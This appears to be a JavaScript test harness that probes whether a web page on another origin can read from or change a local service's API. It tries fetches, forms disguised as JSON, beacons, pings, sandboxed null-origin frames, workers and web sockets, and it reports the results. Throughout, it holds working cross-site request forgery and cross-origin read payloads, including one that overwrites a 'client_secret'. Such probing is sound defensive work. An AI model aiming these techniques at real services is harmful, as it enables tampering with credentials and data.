// Everything a page can try against another origin. Says what it could read; whether it changed something is seen there.
const results = [];
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const JSON_TYPE = { 'content-type': 'application/json' };
const EDIT = '[{"op":"replace","path":"/caller/client_secret","value":"stolen"}]';

async function attempt(name, work) {
  let said;
  try {
    said = await Promise.race([work(), wait(4000).then(() => 'nothing came')]);
  } catch (error) {
    said = 'error: ' + error;
  }
  results.push({ name: name, said: String(said).slice(0, 2000) });
}

const read = (response) => response.text().then((text) => response.type + ' ' + response.status + ' ' + text);

function element(tag, attributes) {
  const made = document.createElement(tag);
  for (const name in attributes) made.setAttribute(name, attributes[name]);
  return made;
}

function loaded(tag, attributes, look) {
  return new Promise((done) => {
    const made = element(tag, attributes);
    made.onload = () => { try { done('loaded ' + look(made)); } catch (error) { done('loaded, ' + error); } };
    made.onerror = () => done('failed');
    document.body.append(made);
  });
}

async function form(action, attributes, fields) {
  const name = 'f' + Math.random();
  const frame = element('iframe', { name: name });
  const made = element('form', Object.assign({ action: action, target: name }, attributes));
  for (const field in fields) made.append(element('input', { name: field, value: fields[field] }));
  document.body.append(frame, made);
  const came = new Promise((done) => { frame.onload = done; });
  made.submit();
  await came;
  await wait(300);
  return frame.contentDocument ? 'read ' + frame.contentDocument.body.textContent : 'out of reach';
}

// A page whose origin is null does the work and tells its parent.
function nullOrigin(attributes, script, name) {
  return new Promise((done) => {
    const key = 'k' + Math.random();
    addEventListener('message', (event) => { if (event.data.key === key) done(event.data.said); });
    const page = '<body><script>const tell = (said) => parent.postMessage({ key: "' + key + '", said: String(said) }, "*");'
      + '(async () => { try { ' + script + ' } catch (error) { tell("error: " + error); } })();</' + 'script>';
    const frame = element('iframe', attributes);
    frame.setAttribute(name, name === 'src' ? 'data:text/html,' + encodeURIComponent(page) : page);
    document.body.append(frame);
  });
}

function attempts(label, base) {
  const named = (name, work) => attempt(label + ': ' + name, work);
  const simple = (path, options) => fetch(base + path, Object.assign({ mode: 'no-cors', credentials: 'include' }, options)).then(read);
  return [
    named('fetch reads the settings', () => fetch(base + '/v1/settings').then(read)),
    named('fetch reads the world', () => fetch(base + '/v1/world', { credentials: 'include' }).then(read)),
    named('fetch reads what is free', () => fetch(base + '/ca.pem').then(read)),
    named('a simple fetch reads the journal', () => simple('/v1/journal')),
    named('a simple HEAD', () => simple('/v1/world', { method: 'HEAD' })),
    named('an XMLHttpRequest reads', () => new Promise((done) => {
      const request = new XMLHttpRequest();
      request.open('GET', base + '/v1/settings');
      request.onloadend = () => done(request.status + ' ' + request.responseText);
      request.send();
    })),
    named('a script', () => loaded('script', { src: base + '/v1/settings' }, () => Object.keys(window).includes('schema'))),
    named('a module', () => import(base + '/v1/settings').then((module) => JSON.stringify(module))),
    named('a style sheet', () => loaded('link', { rel: 'stylesheet', href: base + '/v1/world' }, (made) => made.sheet.cssRules.length)),
    named('an image', () => loaded('img', { src: base + '/v1/explain' }, (made) => made.naturalWidth)),
    named('an image of another origin that is asked for', () => loaded('img', { src: base + '/v1/errors', crossorigin: 'anonymous' }, (made) => made.naturalWidth)),
    named('a frame', () => loaded('iframe', { src: base + '/v1/settings' }, (made) => (made.contentDocument ? made.contentDocument.body.textContent : 'out of reach'))),
    named('an object', () => loaded('object', { data: base + '/v1/world' }, (made) => (made.contentDocument ? made.contentDocument.body.textContent : 'out of reach'))),
    named('an event source', () => new Promise((done) => {
      const source = new EventSource(base + '/v1/journal?wait=1');
      source.onmessage = (event) => done('read ' + event.data);
      source.onerror = () => done('failed');
    })),
    named('a worker', () => new Promise((done) => {
      const script = 'try { importScripts("' + new URL(base + '/v1/world', location.href) + '"); postMessage("loaded"); } catch (error) { postMessage("error: " + error); }';
      const worker = new Worker(URL.createObjectURL(new Blob([script])));
      worker.onmessage = (event) => done(event.data);
    })),
    named('a web socket', () => new Promise((done) => {
      const socket = new WebSocket(new URL(base + '/v1/journal', location.href).href.replace(/^http/, 'ws'));
      socket.onopen = () => done('open');
      socket.onmessage = (event) => done('read ' + event.data);
      socket.onerror = () => done('failed');
    })),
    named('a simple fetch resets', () => simple('/v1/reset', { method: 'POST', body: '' })),
    named('a simple fetch edits', () => simple('/v1/world', { method: 'POST', body: EDIT, headers: { 'content-type': 'text/plain;application/json' } })),
    named('a simple fetch that outlives the page restarts', () => simple('/v1/environments/onebox/restart', { method: 'POST', keepalive: true, body: 'a=b' })),
    named('a simple fetch of parts', () => { const data = new FormData(); data.append('name', 'x'); return simple('/v1/scenario', { method: 'POST', body: data }); }),
    named('a fetch of JSON resets', () => fetch(base + '/v1/reset', { method: 'POST', headers: JSON_TYPE, body: '{}' }).then(read)),
    named('a fetch edits', () => fetch(base + '/v1/world', { method: 'PATCH', headers: JSON_TYPE, body: EDIT }).then(read)),
    named('a fetch breaks', () => fetch(base + '/v1/scenario', { method: 'PUT', headers: JSON_TYPE, body: '{"name":"tenant-cert-absent"}' }).then(read)),
    named('a fetch guesses a token', () => fetch(base + '/v1/world', { headers: { authorization: 'Bearer x' } }).then(read)),
    named('a beacon of text', async () => navigator.sendBeacon(base + '/v1/reset', 'x')),
    named('a beacon of JSON', async () => navigator.sendBeacon(base + '/v1/reset', new Blob(['{}'], { type: 'application/json' }))),
    named('a form resets', () => form(base + '/v1/reset', { method: 'POST' }, { a: 'b' })),
    named('a form of text edits', () => form(base + '/v1/world?_method=PATCH', { method: 'POST', enctype: 'text/plain' }, { '[{"op":"replace","path":"/caller/client_secret","value":"stolen","x":"': '"}]' })),
    named('a form of parts breaks', () => form(base + '/v1/scenario', { method: 'POST', enctype: 'multipart/form-data' }, { name: 'tenant-cert-absent' })),
    named('a form reads', () => form(base + '/v1/explain', { method: 'GET' }, { what: 'last' })),
    named('a ping of a link', async () => { const link = element('a', { href: '#', ping: base + '/v1/reset' }); document.body.append(link); link.click(); await wait(300); return 'sent'; }),
    named('a null origin reads', () => nullOrigin({ sandbox: 'allow-scripts' }, 'const got = await fetch("' + new URL(base + '/v1/settings', location.href) + '"); tell(await got.text());', 'srcdoc')),
    named('a null origin resets', () => nullOrigin({ sandbox: 'allow-scripts' }, 'await fetch("' + new URL(base + '/v1/reset', location.href) + '", { method: "POST", mode: "no-cors", body: "" }); tell("sent");', 'srcdoc')),
    named('a null origin edits', () => nullOrigin({ sandbox: 'allow-scripts' }, 'const got = await fetch("' + new URL(base + '/v1/world', location.href) + '", { method: "PATCH", headers: { "content-type": "application/json" }, body: \'' + EDIT + '\' }); tell(await got.text());', 'srcdoc')),
    named('a page of data reads', () => nullOrigin({}, 'const got = await fetch("' + new URL(base + '/v1/world', location.href) + '"); tell(await got.text());', 'src')),
  ];
}

addEventListener('load', async () => {
  const all = [];
  for (const [label, base] of TARGETS) all.push(...attempts(label, base));
  await Promise.all(all);
  await fetch('/report', { method: 'POST', body: JSON.stringify({ page: PAGE, results: results }) });
});
